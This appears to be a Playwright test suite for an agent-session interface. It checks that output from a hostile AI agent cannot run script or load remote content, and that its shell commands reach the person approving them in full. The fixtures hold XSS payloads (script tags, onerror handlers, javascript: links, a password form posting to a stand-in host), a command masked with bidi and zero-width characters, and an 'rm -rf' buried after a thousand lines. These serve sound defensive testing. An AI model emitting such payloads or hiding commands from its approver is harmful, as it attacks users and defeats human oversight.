// @ts-check
/** Output of a hostile agent runs nothing and loads nothing from elsewhere. */
import { expect, test } from "./fixtures.js";
import { expectAnswered } from "./proof.js";
import { ask, question, run, script } from "./say.js";

const ELSEWHERE = "http://192.0.2.1";

const HOSTILE_MARKDOWN = `
<script>globalThis.pwned = "script"</script>
<img src="${ELSEWHERE}/a.png" onerror="globalThis.pwned = 'onerror'">
<svg onload="globalThis.pwned = 'svg'"></svg>
<iframe src="javascript:globalThis.pwned='iframe'"></iframe>
<a href="javascript:globalThis.pwned='html link'">html link</a>
<style>@import url("${ELSEWHERE}/style.css"); body { display: none }</style>
<link rel="stylesheet" href="${ELSEWHERE}/link.css">
<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/refresh">
<form action="${ELSEWHERE}/form"><input name="password"><button>Connect</button></form>
<base href="${ELSEWHERE}/">

[markdown link](javascript:globalThis.pwned='markdown')
[data link](data:text/html,<script>globalThis.pwned='data'</script>)
[odd link](  JaVaScRiPt&#58;globalThis.pwned='odd')
<javascript:globalThis.pwned='autolink'>
![remote picture](${ELSEWHERE}/picture.png)
![script picture](javascript:globalThis.pwned='picture')
[^note]

| a | <img src=x onerror="globalThis.pwned='table'"> |
|---|---|
| \`<script>globalThis.pwned='code'</script>\` | [x](vbscript:x) |

\`\`\`html"><script>globalThis.pwned='fence'</script>
<script>globalThis.pwned='in fence'</script>
\`\`\`

${"> ".repeat(400)}deep
${"[".repeat(2000)}
${"*a_".repeat(2000)}

${"x".repeat(200_000)}

The last words.
`;

/** @param {import("@playwright/test").Page} page */
function watch(page) {
  /** @type {string[]} */
  const elsewhere = [];
  /** @type {string[]} */
  const problems = [];
  page.on("request", (request) => {
    const { hostname, protocol } = new URL(request.url());
    if (protocol.startsWith("http") && hostname !== "127.0.0.1") elsewhere.push(request.url());
  });
  page.on("dialog", (dialog) => {
    problems.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("pageerror", (error) => problems.push(String(error)));
  page.on("console", (message) => /Content.Security.Policy/i.test(message.text()) && problems.push(message.text()));
  page.on("popup", (popup) => problems.push(`popup: ${popup.url()}`));
  return { elsewhere, problems };
}

/** @param {import("@playwright/test").Page} page */
async function expectHarmless(page, /** @type {ReturnType<typeof watch>} */ { elsewhere, problems }) {
  expect(await page.evaluate(() => /** @type {{ pwned?: string }} */ (globalThis).pwned)).toBeUndefined();
  expect(elsewhere).toEqual([]);
  expect(problems).toEqual([]);
}

test("Markdown of an agent runs and loads nothing", async ({ api, desk }) => {
  const seen = watch(desk.page);
  const session = await api.begin(script({ text: HOSTILE_MARKDOWN, reasoning: HOSTILE_MARKDOWN, chunk: 5000 }), { title: "<img src=x onerror=globalThis.pwned='title'>" });
  await api.untilIdle(session);
  await desk.openSession(session);
  await expect(desk.session.timeline.getByText("The last words.").last()).toBeVisible();
  const thoughts = desk.session.timeline.getByRole("button", { name: /Thought/ });
  await expect(thoughts).not.toHaveCount(0);
  for (const folded of await thoughts.all()) await folded.click();
  const addresses = await desk.session.timeline.locator("a[href]").evaluateAll((links) => links.map((link) => link.getAttribute("href") ?? ""));
  for (const address of addresses) expect(address).toMatch(/^(https?:|mailto:|#)/i);
  await expect(desk.session.timeline.locator("script, iframe, form, style, link, meta, base, object, embed, [onerror], [onload], img[src^='http']")).toHaveCount(0);
  await expectHarmless(desk.page, seen);
});

test("a hostile question is text, and can be answered", async ({ api, desk }) => {
  const seen = watch(desk.page);
  const text = `<img src=x onerror="globalThis.pwned='question'"> Which one?`;
  const label = `<script>globalThis.pwned="label"</script>`;
  const session = await api.begin(script(ask(question(text, [label, "[b](javascript:globalThis.pwned='option')"], { header: "<svg onload=globalThis.pwned='header'>" }))));
  await desk.openInbox();
  await desk.inbox.card(/Which one\?/).answer(label);
  await expectAnswered(desk, api, session, text, [[label]]);
  await expectHarmless(desk.page, seen);
});

test("characters that hide or turn text are visible in a command", async ({ api, desk }) => {
  const command = "echo safe \u202e'gnp.evil' # \u200b\u2066hidden\u2069";
  await api.begin(script(run(command)));
  await desk.openInbox();
  const card = desk.inbox.permission("echo safe");
  await card.open();
  const shown = (await card.article.locator("pre.command").first().textContent()) ?? "";
  expect(shown).not.toMatch(/[\u200b\u202a-\u202e\u2066-\u2069]/);
  expect(shown).toMatch(/202E/i);
  expect(shown).toMatch(/200B/i);
});

test("a command of a thousand lines is shown in full beside Allow", async ({ api, desk }) => {
  const command = `${Array.from({ length: 1000 }, (_, line) => `: line ${line}`).join("\n")}\nrm -rf ./the-last-line`;
  await api.begin(script(run(command)));
  await desk.openInbox();
  const card = desk.inbox.permission(": line 0");
  await card.open();
  await expect(card.article).toContainText("rm -rf ./the-last-line");
  await expect(card.allowOnce).toBeEnabled();
});

test("the page is served under its policy, and refuses markup that runs", async ({ desk, page, site }) => {
  const response = await fetch(site.url);
  const policy = response.headers.get("content-security-policy") ?? "";
  for (const rule of ["default-src 'none'", "script-src 'self' 'wasm-unsafe-eval'", "style-src 'self'", "img-src 'self' data: blob:", "base-uri 'none'", "form-action 'none'"]) {
    expect(policy.split("; ")).toContain(rule);
  }
  expect(await response.text()).not.toMatch(/<script(?![^>]*\bsrc=)|\son\w+=|<style/i);

  await desk.openInbox();
  await expect(desk.inbox.empty).toBeVisible();
  for (const markup of ["<img src=x onerror='globalThis.pwned = 1'>", "<iframe srcdoc=''></iframe>", "<a href='JavaScript:pwned = 1'>x</a>"]) {
    const written = await page.evaluate((markup) => {
      try {
        document.body.insertAdjacentHTML("beforeend", markup);
        return "written";
      } catch {
        return "refused";
      }
    }, markup);
    expect(written, markup).toBe("refused");
  }
});
